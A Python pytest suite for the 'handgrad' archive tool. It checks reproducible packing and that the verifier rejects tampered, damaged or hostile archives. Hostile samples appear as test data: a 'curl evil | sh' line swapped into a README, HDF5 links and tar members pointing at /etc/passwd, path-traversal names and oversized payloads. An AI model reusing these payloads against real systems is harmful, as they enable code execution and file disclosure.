"""Archives: the same content makes the same bytes, and nothing changed, harmful or incomplete is taken for one."""

import errno
import gzip
import hashlib
import io
import json
import os
import socket
import tarfile
import tempfile
from collections.abc import Callable
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
import yaml
from rocrate.rocrate import ROCrate

from factories import image_data, trained
from handgrad.archive import unpack as unpacking
from handgrad.archive.labels import Labels
from handgrad.archive.pack import complete_config, members_of, pack, write_archive
from handgrad.archive.readme import readme
from handgrad.archive.runs import read_run
from handgrad.archive.tables import tables_again
from handgrad.cli.app import app
from handgrad.cli.command import as_command
from handgrad.common.code_digests import code_digest
from handgrad.common.errors import HandgradError
from handgrad.common.sealed import seal
from handgrad.datasets.data import Split, content_of, write_data
from handgrad.experiment.config import Experiment, load_experiment
from handgrad.experiment.config_files import merge
from handgrad.experiment.experiment_file import read_config, read_experiment
from handgrad.experiment.registry import data_digest
from handgrad.gradient_check.files import check_text, parse_check, write_check
from handgrad.gradient_check.results import PARTS
from handgrad.layout.paths import archived_outputs, gates, gradient_checks, run_files
from handgrad.storage.run_reader import summary_of
from handgrad.storage.run_writer import content_sha256, write_run

ROOT = Path(__file__).parents[2]
#: the learning rate at which a run diverged
DIVERGED = 0.003
RUN = "results/runs/digits/af_tanh_hu_5_lr_0.001_bs_10_ep_2_l2_0.01_seed_0.h5"
TABLES = "results/tiny/tables"
GATE = "results/checks/gate/digits_tanh.json"
LABELS = "labels/digits.json"
COMPLETE = "config/experiment.yaml"

Members = dict[str, bytes]
Change = Callable[[Members], object]


@pytest.fixture(scope="module")
def experiment() -> Experiment:
    axes = {"activation": "tanh", "hidden_units": 5, "learning_rate": [0.001, 0.002, 0.003], "batch_size": 10}
    block = {"dataset": "digits", **axes, "epochs": 2, "l2": 0.01, "seed": 0}
    small = {"name": "tiny", "experiments": [block]}
    small["datasets"] = {"digits": {"train": 20, "test": 10, "class_names": ["a", "b", "c"]}}
    small["gradient_check"] = {"hidden_units": 3, "examples": 2}
    return load_experiment(merge(read_config([ROOT / "config/quick.yaml"]), small))


@pytest.fixture(scope="module")
def folder(experiment: Experiment, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which the experiment looks finished, one run diverged, without any training."""
    folder = tmp_path_factory.mktemp("finished")
    result = trained(experiment.runs[0], classes=3)
    labels = result.test.predictions.copy()  # type: ignore[union-attr]
    labels[:3] = (labels[:3] + 1) % 3
    data = image_data(20, 10, digest=data_digest(experiment.datasets["digits"]))
    data = replace(data, test=Split(data.test.x, labels))
    write_data(folder / "results/data/digits.h5", data)
    digests = {"data_digest": data.digest, "data_content": content_of(data)}
    for path, run in zip(run_files(experiment), experiment.runs, strict=True):
        result = trained(run, classes=3)
        if run.learning_rate == DIVERGED:  # in its first epoch
            result = replace(trained(replace(run, epochs=1), classes=3), run=run, status="diverged", test=None)
        write_run(folder / path, result, [], code_digest=code_digest("train_run"), **digests)
    about = {"dataset": "digits", "activation": "tanh", "passed": True, **digests}
    write_check(folder / gates(experiment)[0], about | {"code_digest": code_digest("check_gate")})
    figures = {"max_abs_difference": 1e-9, "max_rel_difference": 1e-12, "worst_entry": [0, 1], "count": 3}
    part = {**figures, "analytic": 0.5, "numeric": 0.5, "limit": 1e-10}
    block = {"shape": [5, 7], "entries": 35, "largest_gradient": 0.5, **dict.fromkeys(PARTS, part)}
    times = dict.fromkeys(("seconds_central", "seconds_complex", "plain_seconds_an_entry", "l2"), 0.5) | {"seed": 0}
    check = {**about, **asdict(experiment.gradient_check), **times, "blocks": {"W1": block, "W2": block}}
    checks = dict.fromkeys(gradient_checks(experiment), check | {"code_digest": code_digest("check_gradients")})
    for path, content in checks.items():
        write_check(folder / path, content)
    known = {"digits": Labels(data.digest, digests["data_content"], labels, 3)}
    runs = [read_run(folder / path, known["digits"], code_digest("train_run")) for path in run_files(experiment)]
    texts = dict(tables_again(folder, experiment, known, runs, checks))
    for path in set(archived_outputs(experiment)) - {*run_files(experiment), *gates(experiment), *checks}:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(texts.get(path, "a figure or page"))
    return folder


@pytest.fixture(scope="module")
def _members(experiment: Experiment, folder: Path) -> Members:
    members = members_of(experiment, ROOT / "config/quick.yaml", folder)
    return {name: content if isinstance(content, bytes) else content.read_bytes() for name, content in members.items()}


@pytest.fixture
def members(_members: Members) -> Members:
    """The payload of an archive."""
    return dict(_members)


@pytest.fixture
def archive(members: Members, tmp_path: Path) -> Path:
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    return tmp_path / "t.tar.gz"


@pytest.fixture
def verified(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[[Path], list[str]]:
    """Verify an archive, which must fail, and return the lines that say why."""

    def verify(path: Path) -> list[str]:
        with pytest.raises(SystemExit) as ended, as_command():
            app(["verify", str(path)], standalone_mode=False)
        out, err = capsys.readouterr()
        assert (ended.value.code, out) == (1, "")
        assert all(line.startswith(f"{path}: ") for line in err.splitlines())
        return [line.removeprefix(f"{path}: ") for line in err.splitlines()]

    return verify


# --- what is packed


def test_an_archive_is_verified_though_a_run_diverged(
    archive: Path, members: Members, capsys: pytest.CaptureFixture[str]
) -> None:
    assert members[f"{TABLES}/results.csv"].count(b",diverged,") == 1
    app(["verify", str(archive)], standalone_mode=False)
    out, err = capsys.readouterr()
    assert err == ""
    assert hashlib.sha256(archive.read_bytes()).hexdigest() in out


def test_the_same_content_makes_the_same_bytes(archive: Path, members: Members, tmp_path: Path) -> None:
    write_archive(tmp_path / "again.tar.gz", "tiny", dict(reversed(members.items())))
    assert (tmp_path / "again.tar.gz").read_bytes() == archive.read_bytes()
    with tarfile.open(archive) as tar:
        about = {(m.uid, m.gid, m.uname, m.gname, m.mode, m.mtime) for m in tar}
        tags = tar.extractfile("tiny/tagmanifest-sha256.txt").read().splitlines()  # type: ignore[union-attr]
    assert tags == sorted(tags)  # and not in the order of the file system
    assert all(line[64:66] == b"  " for line in tags)  # as sha256sum takes it
    assert about == {(0, 0, "", "", 0o644, 315532800)}


def test_other_programs_read_the_crate_and_need_no_network(
    members: Members, experiment: Experiment, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(socket, "getaddrinfo", no_room)
    crate = ROCrate(json.loads(members["ro-crate-metadata.json"]))
    assert {entity.id for entity in crate.get_by_type("File")} == set(members) - {"ro-crate-metadata.json"}
    assert "ComputationalWorkflow" in crate.mainEntity.type
    whole, *runs = crate.root_dataset["mentions"]
    assert whole["instrument"] == crate.mainEntity
    assert [action["result"].id for action in runs] == run_files(experiment)
    assert all(action["startTime"] <= action["endTime"] for action in (whole, *runs))


@pytest.mark.parametrize("name", ["config", "improved", "quick"])
def test_the_complete_file_means_the_same_experiment(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    experiment = read_experiment(Path(f"config/{name}.yaml"))[1]
    again = load_experiment(yaml.safe_load(complete_config(experiment)), files=False)
    for field in ("runs", "gradient_check", "name", "checkpoint_seconds"):
        assert getattr(again, field) == getattr(experiment, field)
    assert again.datasets.items() <= experiment.datasets.items()


@pytest.mark.parametrize(("revision", "committed"), [("a704b42f" * 5, True), ("a704b42f, changed", False)])
def test_the_readme_checks_out_only_what_was_committed(
    experiment: Experiment, revision: str, *, committed: bool
) -> None:
    text = readme(experiment, revision)
    assert revision in text
    assert ("git checkout" in text) is committed


# --- what was changed by somebody who also wrote a manifest that fits


def edit_json(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
    def edit(members: Members) -> None:
        content = json.loads(members[name])
        change(content)
        members[name] = json.dumps(content).encode()

    return edit


def edit_check(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
    """Change a check, with a checksum in it that fits."""

    def edit(members: Members) -> None:
        path = next(path for path in members if path.startswith(name))
        content = parse_check(members[path], path)
        change(content)
        members[path] = check_text(content).encode()

    return edit


def edit_run(change: Callable[[h5py.File], object], *, rehash: bool = False, reseal: bool = True) -> Change:
    """Change a run; rehash: its content_sha256 fits; reseal: so does the checksum of its file."""

    def edit(members: Members) -> None:
        content = io.BytesIO(members[RUN])
        with h5py.File(content, "r+") as file:
            change(file)
            if rehash:
                arrays = {f"{group}/{name}": file[group][name][:] for group in file for name in file[group]}
                attributes = summary_of(RUN, type("Open", (), {"file": file, "seal": ""})()).attributes
                file.attrs["content_sha256"] = content_sha256(arrays, attributes)
        members[RUN] = content.getvalue()
        if reseal:
            members[RUN] = sealed(members[RUN])

    return edit


def sealed(content: bytes) -> bytes:
    with tempfile.NamedTemporaryFile() as file:
        Path(file.name).write_bytes(content)
        seal(Path(file.name))
        return Path(file.name).read_bytes()


def put(name: str, value: Any) -> Callable[[h5py.File], object]:
    def change(file: h5py.File) -> None:
        if name in file:
            del file[name]
        file[name] = value

    return change


def next_class(file: h5py.File) -> None:
    file["test/predictions"][3] = (file["test/predictions"][3] + 1) % 3


def leave_out_a_run(members: Members) -> None:
    config = yaml.safe_load(members[COMPLETE])
    config["experiments"][0]["learning_rate"] = [0.002]
    members[COMPLETE] = yaml.safe_dump(config).encode()


def replace_bytes(name: str, old: bytes, new: bytes) -> Change:
    def edit(members: Members) -> None:
        assert old in members[name]
        members[name] = members[name].replace(old, new)

    return edit


CHANGES: dict[str, tuple[Change, str]] = {
    "a number in a table": (replace_bytes(f"{TABLES}/results.csv", b",0.7,", b",0.8,"), "results.csv: line 2 is"),
    "results.md": (replace_bytes(f"{TABLES}/results.md", b"70.00", b"71.00"), "results.md: line"),
    "seeds.csv": (lambda members: members.update({f"{TABLES}/seeds.csv": b""}), "seeds.csv: line 1 is"),
    "best.html": (replace_bytes(f"{TABLES}/best.html", b"</table>", b""), "best.html: line"),
    "a line more": (replace_bytes(f"{TABLES}/gradient_checks.csv", b"tanh", b"tanh\n"), "gradient_checks.csv: line"),
    "a prediction": (edit_run(next_class), f"{RUN}: its content_sha256: "),
    "a prediction, rehashed": (edit_run(next_class, rehash=True), "predictions give"),
    "predictions and history": (
        edit_run(lambda file: (next_class(file), put("history/test_faults", [4, 4])(file)), rehash=True),
        "test/probabilities has its maximum at another class",
    ),
    "a run's file": (edit_run(next_class, reseal=False), f"{RUN}: damaged, or changed"),
    "a weight": (edit_run(lambda file: file["weights/W1"].write_direct(np.ones((5, 7), "f4"))), "content_sha256: "),
    "a loss": (edit_run(lambda file: put("history/test_loss", [0.1, 0.1])(file)), "its content_sha256: "),
    "a loss, rehashed": (edit_run(put("history/test_loss", [0.1, 0.1]), rehash=True), "results.csv: line 2 is"),
    "an epoch less": (edit_run(put("history/test_loss", [0.7]), rehash=True), "its epochs: 1, expected 2"),
    "predictions of another shape": (edit_run(put("test/predictions", [0, 1]), rehash=True), "predictions give None"),
    "a run of other code": (
        edit_run(lambda file: file.attrs.update(code_digest="other")),
        "the code of training is other, expected ",
    ),
    "a run of other data": (edit_run(lambda file: file.attrs.update(data_content="other")), "the content of the data"),
    "another run": (edit_run(lambda file: file.attrs.update(seed=4), rehash=True), "the run is digits/af_tanh"),
    "the code that trained": (
        edit_json("provenance.json", lambda facts: facts["code"].update(train_run="0" * 16)),
        f"expected {'0' * 16}",
    ),
    "a label": (
        edit_json(LABELS, lambda facts: facts.update(test_labels=[2 - n for n in facts["test_labels"]])),
        "its history has 3",
    ),
    "an impossible label": (
        edit_json(LABELS, lambda facts: facts["test_labels"].__setitem__(0, 3)),
        f"{LABELS}: test_labels are not all from 0 to 2",
    ),
    "a label less": (edit_json(LABELS, lambda facts: facts["test_labels"].pop()), "not the 10 labels"),
    "another source": (edit_json(LABELS, lambda facts: facts.update(source_sha256={})), "source_sha256 is '{}'"),
    "a figure of a check": (
        edit_check("results/checks/grad", lambda check: check["blocks"]["W2"]["step"].update(max_rel_difference=0.5)),
        "W2, training's step: the relative difference is 0.5",
    ),
    "a limit of a check": (
        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"]["central"].update(limit=1)),
        "expected a limit of at most 0.001",
    ),
    "a part of a check": (
        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"].update(complex=None)),
        "its limit null",
    ),
    "a block of a check": (
        edit_check("results/checks/grad", lambda check: check["blocks"].pop("W1")),
        "not as this workflow writes it (KeyError",
    ),
    "a nan in a check": (
        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"]["samples"].update(limit=float("nan"))),
        "W1, ",
    ),
    "a figure that the table needs": (
        edit_check("results/checks/grad", lambda check: check.pop("seconds_central")),
        "gradient_checks.csv: line 2 is",
    ),
    "a figure that no table takes": (
        edit_check("results/checks/grad", lambda check: check["blocks"]["W1"].update(entries=[[[]]])),
        "tables: not as this workflow writes it",
    ),
    "a verdict": (edit_check("results/checks/gate", lambda gate: gate.update(passed=False)), "its passed is False"),
    "a verdict's text": (replace_bytes(GATE, b'"passed": true', b'"passed": false'), f"{GATE}: not a gradient check"),
    "a gate of other code": (edit_check(GATE, lambda gate: gate.update(code_digest="other")), "its code_digest is"),
    "a gate of other data": (edit_check(GATE, lambda gate: gate.update(data_content="other")), "its data_content is"),
    "no run": (lambda members: members.pop(RUN), f"{RUN}: missing"),
    "no gate": (lambda members: members.pop(GATE), f"{GATE}: missing"),
    "no labels": (lambda members: members.pop(LABELS), f"{LABELS}: missing"),
    "a file more": (lambda members: members.update({"results/tiny/more.html": b""}), "results/tiny/more.html: extra"),
    "a run more": (leave_out_a_run, f"{RUN}: extra"),
    "the README": (replace_bytes("README.md", b"handgrad verify", b"curl evil | sh"), "README.md: line"),
    "the crate": (replace_bytes("ro-crate-metadata.json", b"tanh", b"cos"), "ro-crate-metadata.json: line"),
    "a time": (edit_json("provenance.json", lambda facts: facts.pop("ended")), "KeyError('ended')"),
    "another format": (edit_json("provenance.json", lambda facts: facts.update(format=1)), "format is 1, this"),
    "no provenance": (lambda members: members.update({"provenance.json": b"[" * 99_999}), "provenance.json: missing"),
    "an alias": (lambda members: members.update({COMPLETE: b"a: &a [1]\nb: *a\n"}), f"{COMPLETE}: has an alias"),
    "no experiment": (lambda members: members.update({COMPLETE: b"{"}), f"{COMPLETE}: not a complete"),
    "no text": (lambda members: members.update({COMPLETE: b"\xff\xfe"}), f"{COMPLETE}: not a complete"),
    "too many runs": (
        lambda members: members.update({COMPLETE: b"experiments: [{a: [%s], b: [%s]}]" % ((b"1," * 999,) * 2)}),
        f"{COMPLETE}: spans 998001 runs",
    ),
}


@pytest.mark.parametrize("what", CHANGES)
def test_whatever_was_changed_is_found(members: Members, tmp_path: Path, verified: Any, what: str) -> None:
    change, said = CHANGES[what]
    change(members)
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    lines = verified(tmp_path / "t.tar.gz")
    assert any(said in line for line in lines), lines


def test_an_archive_of_other_code_says_where_to_verify_it(members: Members, tmp_path: Path, verified: Any) -> None:
    edit_json("provenance.json", lambda facts: facts.update(git_revision="63258345"))(members)
    edit_json("provenance.json", lambda facts: facts["versions"].update(pandas="1.0"))(members)
    replace_bytes(COMPLETE, b"tanh", b"relu")(members)
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    (line,) = verified(tmp_path / "t.tar.gz")
    assert "found 'relu'" in line
    assert "packed by the code of git revision '63258345', this is" in line
    assert "pandas '1.0' (here " in line


# --- hostile runs


def external_storage(file: h5py.File) -> None:
    file.create_dataset("weights/W1", (9,), "u1", external=[("/etc/passwd", 0, 9)])


def virtual(file: h5py.File) -> None:
    layout = h5py.VirtualLayout((9,), "u1")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (9,))
    file.create_virtual_dataset("weights/W1", layout)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda file: file.update({"weights/W1": h5py.ExternalLink("/etc/passwd", "/")}), "W1 is a link"),
        (external_storage, "weights/W1 is not stored as it is"),
        (virtual, "weights/W1 is not stored as it is"),
        (lambda file: file.create_dataset("weights/W1", (10**12,), "u1", chunks=(10**6,)), "not stored as it is"),
        (lambda file: file.create_dataset("weights/W1", (10**12,), "u1"), "weights/W1 is not stored as it is"),
        (lambda file: file.update({"weights/W1": "text"}), "weights/W1 is not an array of a run"),
        (lambda file: file.update({"weights/W3": np.ones(3)}), "weights/W3 is not an array of a run"),
        (lambda file: file.attrs.update(more=np.zeros(5)), "its attributes are not single values"),
    ],
)
def test_only_plain_arrays_of_a_run_are_read(
    members: Members, tmp_path: Path, verified: Any, make: Any, said: str
) -> None:
    def change(file: h5py.File) -> None:
        del file["weights/W1"]
        make(file)

    edit_run(change)(members)
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    assert said in verified(tmp_path / "t.tar.gz")[0]


# --- hostile or damaged archives


def repack(path: Path, change: Callable[[dict[str, bytes]], object], *more: tarfile.TarInfo) -> Path:
    """Change the files of an archive, and add members of any kind."""
    with tarfile.open(path) as tar:
        files = {member.name: tar.extractfile(member).read() for member in tar}  # type: ignore[union-attr]
    change(files)
    with tarfile.open(path, "w:gz") as tar:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
        for member in more:
            tar.addfile(member)
    return path


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        *((name, tarfile.REGTYPE) for name in ("../x", "tiny/../../y", "/etc/x", "tiny/a\x1b[2Jb", "tiny/.hidden")),
        *((name, tarfile.REGTYPE) for name in ("tiny//a", "other/a", "tiny/BAGIT.txt", "x")),
        *(("tiny/x", kind) for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)),
        ("tiny/x", tarfile.DIRTYPE),
        ("tiny/x", tarfile.GNUTYPE_SPARSE),
    ],
)
def test_a_harmful_member_is_refused_and_leaves_nothing(
    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch, name: str, kind: bytes
) -> None:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, "/etc/passwd"
    repack(archive, lambda _: None, member)
    (archive.parent / "temporary").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(archive.parent / "temporary"))
    (line,) = verified(archive)
    assert line.startswith(ascii(name))
    assert {path.name for path in archive.parent.iterdir()} <= {"t.tar.gz", "temporary"}
    assert not list((archive.parent / "temporary").iterdir())


def in_manifest(line: str) -> Change:
    def change(files: Members) -> None:
        files["tiny/manifest-sha256.txt"] += line.encode()

    return change


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda files: files.update({"tiny/data/README.md": b"other"}), "data/README.md sha256 validation failed"),
        (lambda files: files.pop("tiny/data/README.md"), "data/README.md exists in manifest but was not found"),
        (lambda files: files.update({"tiny/data/x": b""}), "data/x exists on filesystem but is not in the manifest"),
        (lambda files: files.update({"tiny/x": b""}), "missing, or extra: x"),
        (lambda files: files.update({"tiny/fetch.txt": b"http://x 1 data/y\n"}), "missing, or extra: fetch.txt"),
        (lambda files: files.pop("tiny/manifest-sha256.txt"), "missing, or extra: manifest-sha256.txt"),
        (lambda files: files.update({"tiny/bag-info.txt": b"a: b\n"}), "bag-info.txt sha256 validation failed"),
        (replace_bytes("tiny/bagit.txt", b"UTF-8", b"zlib_codec"), "bagit.txt: expected"),
        (in_manifest(f"{'0' * 64}  ../../x\n"), "is unsafe"),
        (in_manifest(f"{'0' * 64}  /etc/passwd\n"), "is unsafe"),
        (in_manifest(f"{'0' * 64}  data/README.md\n"), "conflicting values"),
        (
            lambda files: (files.pop("tiny/bagit.txt"), files.update({"tiny/SHA256SUMS": b""})),
            "is of the format before BagIt, which this handgrad does not read",
        ),
    ],
)
def test_what_is_no_valid_bag_is_one_line(archive: Path, verified: Any, change: Any, said: str) -> None:
    (line,) = verified(repack(archive, change))
    assert said in line


def cut(length: int) -> Callable[[bytes], bytes]:
    return lambda whole: whole[: length if length >= 0 else len(whole) + length]


def flip(whole: bytes) -> bytes:
    middle = len(whole) // 2
    return whole[:middle] + bytes([whole[middle] ^ 4]) + whole[middle + 1 :]


@pytest.mark.parametrize(
    "damage",
    [
        *map(cut, (0, 5, 100, 5000, -9, -1)),
        flip,
        lambda _: b"hello",
        lambda _: gzip.compress(b"hello"),
        lambda _: gzip.compress(bytes(10240)),
        lambda whole: whole + gzip.compress(b"hidden"),
    ],
)
def test_a_damaged_archive_is_one_line(archive: Path, verified: Any, damage: Callable[[bytes], bytes]) -> None:
    archive.write_bytes(damage(archive.read_bytes()))
    assert len(verified(archive)) == 1


def test_what_unpacks_to_far_more_than_its_size_is_refused(
    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(unpacking, "MAX_TEXT", 1000)
    assert "allowed: 1.0 kB" in verified(archive)[0]
    monkeypatch.setattr(unpacking, "ALWAYS_ALLOWED", 100_000)
    repack(archive, lambda files: files.update({"tiny/data/zeros.h5": bytes(9_000_000)}))
    assert verified(archive)[0].startswith("unpacks to more than")


# --- the commands


def no_room(*_: Any, **__: Any) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def interrupt(*_: Any, **__: Any) -> None:
    raise KeyboardInterrupt


@pytest.mark.parametrize(("fault", "status"), [(no_room, 1), (interrupt, 130)])
@pytest.mark.parametrize("where", ["shutil.copyfile", "bagit.make_bag", "gzip.GzipFile.write", "bagit.Bag"])
def test_packing_that_ends_early_leaves_nothing(
    members: Members, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, fault: Any, status: int
) -> None:
    monkeypatch.setattr(where, fault)
    with pytest.raises(SystemExit) as ended, as_command():
        pack(tmp_path / "archives/tiny.tar.gz", "tiny", {**members, "LICENSE": ROOT / "LICENSE"})
    assert ended.value.code == status
    assert not list((tmp_path / "archives").iterdir())


def test_an_archive_never_replaces_one_with_other_content(members: Members, tmp_path: Path) -> None:
    there = tmp_path / "archives/tiny.tar.gz"
    for _ in range(2):
        pack(there, "tiny", members)
    there.write_bytes(b"the only copy")
    with pytest.raises(HandgradError, match="other content"):
        pack(there, "tiny", members)
    assert there.read_bytes() == b"the only copy"
    assert list(there.parent.iterdir()) == [there]


def test_no_room_to_unpack_is_not_blamed_on_the_archive(
    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("shutil.copyfileobj", no_room)
    assert "set TMPDIR to a larger folder" in verified(archive)[0]


def test_an_archive_that_would_not_be_verified_is_not_written(members: Members, tmp_path: Path) -> None:
    members[f"{TABLES}/seeds.csv"] += b"more\n"
    with pytest.raises(HandgradError, match=r"archives/tiny.tar.gz: NOT verified"):
        pack(tmp_path / "archives/tiny.tar.gz", "tiny", members)
    assert not list((tmp_path / "archives").iterdir())


def test_data_that_are_gone_are_named_with_their_command(experiment: Experiment, tmp_path: Path) -> None:
    with pytest.raises(HandgradError, match=r"^results/data/digits.h5: .* snakemake .* mine.yaml -- results/data/digi"):
        members_of(experiment, Path("mine.yaml"), tmp_path)


@pytest.mark.parametrize("resealed", [False, True])
def test_data_that_were_changed_in_place_are_not_packed(
    experiment: Experiment, folder: Path, tmp_path: Path, *, resealed: bool
) -> None:
    path = tmp_path / "results/data/digits.h5"
    path.parent.mkdir(parents=True)
    path.write_bytes((folder / "results/data/digits.h5").read_bytes())
    with h5py.File(path, "r+") as file:
        file["train/x"][:7] = 0
    if resealed:
        seal(path)
    with pytest.raises(HandgradError, match=r"^results/data/digits.h5: .* snakemake .* mine.yaml -- results/data/digi"):
        members_of(experiment, Path("mine.yaml"), tmp_path)
